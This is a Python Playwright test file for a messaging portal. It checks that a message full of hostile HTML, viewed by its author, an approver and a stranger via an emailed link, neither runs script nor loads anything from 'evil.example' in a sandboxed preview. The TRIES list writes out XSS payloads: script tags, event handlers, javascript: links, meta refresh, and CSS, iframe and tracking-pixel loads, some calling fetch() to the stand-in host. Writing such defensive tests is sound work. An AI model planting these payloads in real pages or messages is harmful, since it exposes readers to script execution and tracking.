"""A message whose HTML tries to run, to load and to lead away, in the browsers of its readers."""

import pytest
from playwright.sync_api import Dialog, Page, Request, Route

from tests.browser.acts import ask, read
from tests.browser.visits import Visits
from tests.portal.messages.hostile_html import HOSTILE

EVIL = "https://evil.example"
PIXEL = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
# What would be seen if it ran: a mark on the window, a dialog, another page, a request.
RUN = f"top.ran=1;alert(1);fetch('{EVIL}/fetched')"
TRIES = (
    f"<script>{RUN}</script><script src='{EVIL}/a.js'></script>",
    f'<img src="data:image/png,x" onerror="{RUN}"><body onload="{RUN}">',
    f'<form action="{EVIL}/form"><input autofocus onfocus="{RUN}"><button>Win</button></form>',
    f"<style>@import '{EVIL}/a.css'; p {{ background: url({EVIL}/style.png) }}</style><p>x</p>",
    f'<p style="background: url({EVIL}/inline.png); list-style-image: url({EVIL}/list.png)">x</p>',
    f'<a id="lure" href="javascript:{RUN}">Read more</a>',
    f'<svg onload="{RUN}"><script>{RUN}</script><image href="{EVIL}/svg.png"/></svg>',
    f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/link.css"><link rel="prefetch" href="{EVIL}/prefetch">',
    f'<link rel="preload" as="image" href="{EVIL}/preload.png"><img srcset="{EVIL}/set.png 1x">',
    f'<picture><source srcset="{EVIL}/source.png"><img alt="" src="/messages/1"></picture>',
    f'<video src="{EVIL}/a.mp4" poster="{EVIL}/poster.png" autoplay></video>',
    f'<table background="{EVIL}/table.png"><tr><td>x</td></tr></table>',
    f'<img alt="" width="1" height="1" src="{EVIL}/pixel.png">',
)
HTML = "".join(f"<div>{one}</div>" for one in (*TRIES, *HOSTILE))


class Watched:
    """Everything that a page did besides showing itself."""

    def __init__(self, page: Page, home: str) -> None:
        self.page, self.home = page, home
        self.loaded: set[tuple[str, str]] = set()
        self.dialogs: list[str] = []
        page.context.route(f"{EVIL}/**", self._serve)
        page.context.on("request", self._note)
        page.on("dialog", self._dismiss)

    def _serve(self, route: Route) -> None:
        # Whatever is asked for is there: nothing is harmless because it is missing.
        route.fulfill(body=PIXEL, content_type="image/gif")

    def _dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _note(self, request: Request) -> None:
        if not request.url.startswith(f"{self.home}/"):
            self.loaded.add((request.resource_type, request.url))

    def settle(self) -> None:
        """Look at the frame for as long as a refresh, a prefetch or an animation might wait."""
        self.page.locator("iframe.preview").scroll_into_view_if_needed()
        self.page.wait_for_load_state("networkidle")
        self.page.wait_for_timeout(300)

    def assert_nothing_ran(self) -> None:
        """No mark, no dialog, no other page; and the frame has neither script nor origin."""
        frame = self.page.frames[1]
        sandbox = self.page.locator("iframe.preview").get_attribute("sandbox") or ""
        assert self.page.evaluate("window.ran") is None
        assert self.dialogs == []
        assert len(self.page.context.pages) == 1
        assert len(self.page.frames) == 2
        assert frame.url.startswith(self.home)
        assert frame.evaluate("origin") == "null"
        assert set(sandbox.split()) == {"allow-popups", "allow-popups-to-escape-sandbox"}
        assert (
            frame.locator(
                "[href^=javascript i], script, form, style, link, meta[http-equiv]"
            ).count()
            == 0
        )


@pytest.fixture(scope="module")
def addresses(everyone: Visits) -> dict[str, tuple[str, str]]:
    """Where the message can be read, and by whom: nobody needs to be known for a mailed link."""
    ada, grace = everyone.page_of("ada"), everyone.page_of("grace")
    ask(ada, "You have won", HTML)
    read(grace, "You have won")
    return {
        "author": ("ada", ada.url),
        "approver": ("grace", grace.url),
        "link in an e-mail": ("", everyone.link("grace", "answer", "You have won")),
    }


READERS = ("author", "approver", "link in an e-mail")


def reading(visits: Visits, addresses: dict[str, tuple[str, str]], reader: str) -> Watched:
    """The message, open before its reader."""
    name, address = addresses[reader]
    watched = Watched(visits.page_of(name) if name else visits.stranger(), visits.url)
    watched.page.goto(address)
    watched.settle()
    return watched


@pytest.mark.parametrize("reader", READERS)
def test_hostile_html_neither_runs_nor_loads(
    visits: Visits, addresses: dict[str, tuple[str, str]], reader: str
) -> None:
    watched = reading(visits, addresses, reader)

    watched.page.frames[1].get_by_text("Read more").click(force=True)
    watched.settle()

    watched.assert_nothing_ran()
    assert watched.loaded == set()


@pytest.mark.parametrize("reader", READERS)
def test_pictures_from_elsewhere_are_all_that_comes_when_they_are_asked_for(
    visits: Visits, addresses: dict[str, tuple[str, str]], reader: str
) -> None:
    watched = reading(visits, addresses, reader)

    watched.page.get_by_role("link", name="Show them").click()
    watched.page.get_by_text("Pictures from other servers are shown.").wait_for()
    watched.settle()

    watched.assert_nothing_ran()
    assert watched.loaded == {("image", f"{EVIL}/{name}") for name in ("", "pixel.png")}
